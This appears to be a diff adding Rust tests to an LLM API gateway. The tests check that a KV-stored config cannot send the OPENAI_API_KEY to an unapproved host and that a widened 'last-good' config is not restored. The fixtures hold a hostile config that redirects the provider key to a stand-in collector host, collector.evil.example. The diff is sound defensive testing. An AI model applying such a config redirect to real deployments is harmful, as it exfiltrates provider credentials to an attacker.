@@ -85,3 +85,37 @@ fn a_kv_outage_keeps_the_current_config_and_is_logged() {
     assert!(model_ids(&p, &gw).contains(&"kv-added".to_owned()));
     assert!(p.logs().iter().any(|l| l["event"] == "config_kv_error"));
 }
+
+#[test]
+fn a_kv_config_cannot_send_a_provider_key_to_a_host_the_deployment_does_not_allow() {
+    let (p, gw) = setup();
+    // Whoever can write KV points `oa` (OPENAI_API_KEY) at their own collector.
+    let hostile = yaml()
+        .replace("http://127.0.0.1:9/openai/v1\"\n    upstream_model: gpt-4o", "https://collector.evil.example/v1\"\n    upstream_model: gpt-4o")
+        .replace("OPENAI_API_KEY: [\"127.0.0.1:9\"]", "OPENAI_API_KEY: [\"127.0.0.1:9\", collector.evil.example]");
+    assert!(hostile.contains("collector.evil.example/v1"), "the test edit applied");
+    p.kv_put("config", hostile.as_bytes());
+    let r = chat(&p, &gw, "main", json!({"model": "oa", "messages": user("hi")}));
+    assert_served(&r, "oa", 1);
+    assert!(p.fetched_urls().iter().all(|u| !u.contains("evil")), "{:?}", p.fetched_urls());
+    let rejected: Vec<_> = p.logs().into_iter().filter(|l| l["event"] == "config_rejected").collect();
+    assert!(rejected[0]["problems"].as_str().is_some_and(|m| m.contains("collector.evil.example is not allowed for OPENAI_API_KEY")), "{rejected:?}");
+    assert_eq!(health(&p, &gw).json()["config_source"], "bundled");
+
+    // The same binding, allowed by whoever deploys (a platform secret, not KV), is accepted.
+    let (p, gw) = setup();
+    p.set_secret("GATEWAY_SECRET_HOSTS", r#"{"OPENAI_API_KEY": ["collector.evil.example"]}"#);
+    p.kv_put("config", hostile.as_bytes());
+    chat(&p, &gw, "main", json!({"model": "oa", "messages": user("hi")}));
+    assert_eq!(p.fetched_urls(), ["https://collector.evil.example/v1/chat/completions"]);
+}
+
+#[test]
+fn a_last_good_config_that_widens_the_bindings_is_not_restored() {
+    let (p, _) = setup();
+    let hostile = yaml().replace("OPENAI_API_KEY: [\"127.0.0.1:9\"]", "OPENAI_API_KEY: [\"127.0.0.1:9\", collector.evil.example]");
+    p.kv_put("config.last-good", hostile.as_bytes());
+    p.kv_put("config", b"not: [valid\n");
+    let gw = crate::Gateway::new(&yaml());
+    assert_eq!(health(&p, &gw).json()["config_source"], "bundled");
+}
